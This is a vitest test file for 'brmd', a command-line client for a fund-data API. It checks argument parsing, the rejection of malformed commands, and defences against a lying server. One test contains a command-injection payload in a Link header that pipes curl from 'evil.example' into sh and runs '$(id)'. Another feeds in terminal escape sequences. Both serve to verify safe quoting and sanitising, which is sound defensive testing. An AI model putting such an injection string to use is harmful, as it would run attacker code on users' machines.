import { describe, expect, it } from 'vitest'
import { findNextAddress } from '../../../client/typescript/address.ts'
import {
  parseWords,
  printHelp,
  UsageError,
  writeForTerminal,
  writeNextCommand,
} from '../../../client/typescript/commands.ts'
import { endpoints } from '../../../schemas/service/endpoints.ts'

const ask = (line: string) => parseWords(line.split(' ').filter(Boolean))

describe('the words of brmd', () => {
  it('are the address of the API that they name', () => {
    expect(ask('portfolio 62415896000127 2025-10 --format csv')).toEqual({
      path: '/v1/fund/{cnpj}/portfolio',
      inPath: { cnpj: '62415896000127' },
      query: { date: '2025-10', format: 'csv' },
      out: null,
    })
    expect(ask('funds --type=fii --out funds.csv')).toEqual({
      path: '/v1/funds',
      inPath: {},
      query: { type: 'fii' },
      out: 'funds.csv',
    })
    expect(ask('get /v1/funds?q=a%20b --page_size 3')).toEqual({
      path: '/v1/funds',
      inPath: {},
      query: { q: 'a b', page_size: '3' },
      out: null,
    })
    expect([ask(''), ask('help'), ask('portfolio --help'), ask('mcp')]).toEqual(['help', 'help', 'help', 'mcp'])
  })

  it('lead to endpoints that exist, with parameters that these take', () => {
    const usages = [...printHelp().matchAll(/^ {2}brmd ([a-z-]+)(.*?) {2}/gm)].map(([, name = '', words = '']) => ({
      name,
      needed: words.split(' ').filter((word) => /^[A-Z]/.test(word)),
    }))
    const commands = usages.filter(({ name }) => name !== 'get' && name !== 'mcp')
    expect(commands.length).toBeGreaterThan(10)
    for (const { name, needed } of commands) {
      const asked = parseWords([name, ...needed])
      if (typeof asked === 'string') throw new Error(`${name} is no command`)
      const endpoint = endpoints.find(({ path }) => path === asked.path)
      const known = Object.keys(endpoint?.input.shape ?? {})
      expect(known, name).toEqual(expect.arrayContaining([...Object.keys(asked.inPath), ...Object.keys(asked.query)]))
    }
  })

  it('are refused where they mean nothing or two things', () => {
    const wrong = [
      'portfolio 1',
      'portfolio 1 2 3',
      'portfolio 1 2025-10 --date 2025-09',
      'constructor',
      'fund 1 -x',
      'fund 1 --format',
      'fund 1 --format csv --format json',
      'get',
      'get /keys',
      'get http://other.example/v1/funds',
      'get /v1/funds?q=1&q=2',
    ]
    for (const line of wrong) expect(() => ask(line), line).toThrow(UsageError)
  })
})

describe('what a server that lies says', () => {
  it('is one word of the command that a reader copies, whatever the next address is', () => {
    const link = `</v1/funds';curl$IFS'evil.example'|sh;'?q='$(id)'>; rel="next"`
    const address = findNextAddress(new Response('', { headers: { link } })) ?? ''

    expect(address).toContain("';curl")
    expect(writeNextCommand(address).split("'")).toEqual(['brmd get ', expect.stringContaining('/v1/funds%27;'), ''])
  })

  it('moves no cursor of a terminal, and hides nothing there', () => {
    expect(writeForTerminal('not_found: \u001b[2Jnothing\r\n\u0007')).toBe(
      'not_found: \uFFFD[2Jnothing\uFFFD\uFFFD\uFFFD',
    )
  })
})
